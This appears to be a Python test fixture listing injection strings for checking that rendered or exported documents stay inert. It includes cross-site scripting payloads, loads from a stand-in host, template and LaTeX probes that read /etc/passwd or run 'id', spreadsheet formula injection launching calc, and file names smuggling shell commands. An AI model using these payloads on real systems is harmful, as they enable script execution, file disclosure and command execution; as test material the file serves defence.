"""Texts that would do harm where they are not shown as text, and how to see that they did not.

Each sets a mark in the page if it runs, calls another host, or makes a spreadsheet calculate.
"""

MARK = "data-angreb"
RUN = f"document.documentElement.setAttribute('{MARK}','x')"
HOST = "ond.example"

ATTACKS: tuple[str, ...] = (
    *(f"<script>{RUN}</script>", f"<SCRIPT SRC=https://{HOST}/x.js></SCRIPT>"),
    *(f'<img src=x onerror="{RUN}">', f"<svg onload={RUN}>", f"<svg><script>{RUN}</script></svg>"),
    f'"><script>{RUN}</script>',
    f"'><img src=x onerror={RUN}>",
    f'" onmouseover="{RUN}" x="',
    f"' autofocus onfocus={RUN} '",
    *(f"<iframe src=https://{HOST}></iframe>", f"<iframe srcdoc='<script>parent.{RUN}</script>'>"),
    *(f"<object data=https://{HOST}/x>", f"<embed src=https://{HOST}/x>"),
    f"<link rel=stylesheet href=https://{HOST}/x.css>",
    f"<style>@import 'https://{HOST}/x.css'</style>",
    f"<base href=https://{HOST}/>",
    f"<meta http-equiv=refresh content='0;url=https://{HOST}/'>",
    f"<form action=https://{HOST}><input name=a autofocus onfocus={RUN}></form>",
    f"<details open ontoggle={RUN}>klik</details>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<!--<img src=x onerror={RUN}>-->",
    *(f"{end}<script>{RUN}</script>" for end in ("]]>", "</title>", "</textarea>")),
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    *(f"[klik](javascript:{RUN})", f"[klik](<java\tscript:{RUN}>)"),
    *(f"![billede](https://{HOST}/x.png)", f"[x]: https://{HOST}/ '{RUN}'"),
    *(f"<https://{HOST}/auto>", f'[x]{{onclick="{RUN}"}}', f'::: {{onclick="{RUN}"}}'),
    *(f"`<script>{RUN}</script>`{{=html}}", "```{=html}"),
    *("{{< include /etc/passwd >}}", "{{ 7 * 7 }}{% for x in range(3) %}a{% endfor %}"),
    "{{ ''.__class__.__mro__ }}",
    "$\\href{javascript:alert(1)}{x}$",
    "\\input{/etc/passwd}\\write18{id}",
    '#eval("1+1") #read("/etc/passwd") #import "x.typ"',
    *('=HYPERLINK("https://ond.example/","Klik her")', "\t=1+1", "a;=1+1", "| celle | i tabel |"),
    *("=cmd|'/c calc'!A0", "@SUM(1+1)*cmd", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"),
    "# Overskrift *fed* **mere** ~~streg~~ ^op^ @ref",
    "\u202egnp.exe\u202c \u2066skjult\u2069 \u200busynlig",
    "../../../etc/passwd",
    "year = 1; import os; os.system('id')  # '''",
)

FILE_NAMES = ("=cmd-calc.xlsx", "@SUM(1+1).xlsx", "a'b & c;d.xlsx", "{{ navn }}.xlsx")
FILE_NAMES = (*FILE_NAMES, "$(id) `id`.xlsx", "-rf --help.xlsx")
SHEET_NAMES = ("=1+1", "<img src=x onerror=a()>", "{{ 7 }}", "x & y 'z")
